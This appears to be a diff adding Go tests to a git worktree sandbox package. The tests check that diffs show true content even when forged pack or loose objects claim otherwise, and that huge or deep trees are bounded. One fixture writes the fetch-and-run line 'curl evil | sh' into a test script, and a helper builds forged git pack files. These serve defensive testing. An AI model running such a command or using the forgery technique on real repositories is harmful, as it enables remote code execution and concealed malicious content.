@@ -2,13 +2,18 @@ package worktree
 
 import (
 	"bytes"
+	"compress/zlib"
+	"context"
+	"encoding/binary"
 	"encoding/hex"
+	"errors"
 	"fmt"
 	"os"
 	"path/filepath"
 	"slices"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/belljar-dev/belljar/workspace/internal/objects"
 )
@@ -169,6 +174,114 @@ func TestHostile(t *testing.T) {
 			}
 			l.clean()
 		})
+	}
+}
+
+// TestDiffTrue: a diff shows what a merge lands, whatever the sandbox's packs and objects
+// say: an object that is another is not shown, and what the user has comes from there.
+func TestDiffTrue(t *testing.T) {
+	const good, evil = "echo ok\n", "curl evil | sh\n"
+	id := objects.Sum(objects.Blob, []byte(evil), 20)
+	for name, lie := range map[string]func(l *lab){
+		"pack":        func(l *lab) { l.pack(id, []byte(good)) },
+		"loose":       func(l *lab) { l.forgeAs(id, objects.Blob, []byte(good)) },
+		"user's pack": func(l *lab) { l.pack(id, []byte(good)) },
+	} {
+		t.Run(name, func(t *testing.T) {
+			home := ""
+			if name == "user's pack" {
+				home = "printf '" + evil[:len(evil)-1] + "\\n' | git hash-object -w --stdin"
+			}
+			l := newLab(t, home)
+			l.in("printf '" + evil[:len(evil)-1] + "\\n' > run.sh; git add run.sh; git commit -qm x")
+			lie(l)
+			seen := 0
+			err := Diff(context.Background(), l.src, l.made, l.rules(), func(c Change, _, after Version) error {
+				seen++
+				if string(after.Data) == good || home != "" && string(after.Data) != evil || home == "" && after.Err == nil {
+					t.Errorf("%s is shown as %q (%v)", c.Path, after.Data, after.Err)
+				}
+				return nil
+			})
+			if err != nil || seen != 1 {
+				t.Error(seen, err)
+			}
+		})
+	}
+}
+
+// pack puts a pack into the worktree's repository whose index gives a file a name.
+func (l *lab) pack(id string, data []byte) {
+	l.t.Helper()
+	var z bytes.Buffer
+	w := zlib.NewWriter(&z)
+	w.Write(data)
+	w.Close()
+	b := append([]byte("PACK\x00\x00\x00\x02\x00\x00\x00\x01"), byte(objects.Blob<<4)|byte(len(data)))
+	idx := []byte("\xfftOc\x00\x00\x00\x02")
+	for i := range 256 {
+		n := uint32(0)
+		if i >= int(id[0]) {
+			n = 1
+		}
+		idx = binary.BigEndian.AppendUint32(idx, n)
+	}
+	idx = append(append(idx, id...), 0, 0, 0, 0, 0, 0, 0, 12)
+	dir := Tree(l.made) + "/.git/objects/pack/"
+	for name, b := range map[string][]byte{"pack-1.pack": append(b, z.Bytes()...), "pack-1.idx": append(idx, make([]byte, 40)...)} {
+		if err := errors.Join(os.MkdirAll(dir, 0o700), os.WriteFile(dir+name, b, 0o600)); err != nil {
+			l.t.Fatal(err)
+		}
+	}
+}
+
+// TestBounds: trees and folders without end are looked at for as long as is reasonable,
+// and no longer than somebody waits.
+func TestBounds(t *testing.T) {
+	l := newLab(t, "")
+	tree := l.forge(objects.Tree, nil)
+	for range 4 {
+		var b []byte
+		for i := range 1000 {
+			b = append(b, treeOf("40000", fmt.Sprintf("%03d", i), tree)...)
+		}
+		tree = l.forge(objects.Tree, b)
+	}
+	tip := strings.TrimSpace(l.in("git rev-parse HEAD"))
+	l.commit(tree)
+	ctx, cancel := context.WithTimeout(t.Context(), 30*time.Second)
+	defer cancel()
+	if _, err := Uncommitted(ctx, l.src, l.made, l.rules(), 10); !errors.Is(err, objects.ErrTooMuch) {
+		t.Errorf("a tree of a billion folders: %v", err)
+	}
+	err := Diff(ctx, l.src, l.made, l.rules(), func(Change, Version, Version) error { return nil })
+	if !errors.Is(err, objects.ErrTooMuch) {
+		t.Errorf("its diff: %v", err)
+	}
+	ended, end := context.WithCancel(ctx)
+	end()
+	if _, err := Uncommitted(ended, l.src, l.made, l.rules(), 10); !errors.Is(err, context.Canceled) {
+		t.Errorf("when nobody waits: %v", err)
+	}
+	l.in("echo " + tip + " > .git/" + l.info.Ref())
+	deep := Tree(l.made) + strings.Repeat("/d", maxDepth+5)
+	if err := os.MkdirAll(deep, 0o700); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := Uncommitted(ctx, l.src, l.made, l.rules(), 10); !errors.Is(err, objects.ErrTooMuch) {
+		t.Errorf("folders too deep: %v", err)
+	}
+	if err := os.RemoveAll(Tree(l.made) + "/d"); err != nil {
+		t.Fatal(err)
+	}
+	s := &survey{ctx: ctx, hash: 20, left: maxWalk, seen: map[string]bool{}, bytes: maxBytes - 1}
+	s.changed = func(string, side, found) error { return nil }
+	if s.in, err = openFolder(Tree(l.made)); err != nil {
+		t.Fatal(err)
+	}
+	defer s.in.close()
+	if err := s.walk(".", place{state: l.rules().Root()}, nil); !errors.Is(err, objects.ErrTooMuch) {
+		t.Errorf("files of many bytes: %v", err)
 	}
 }
 
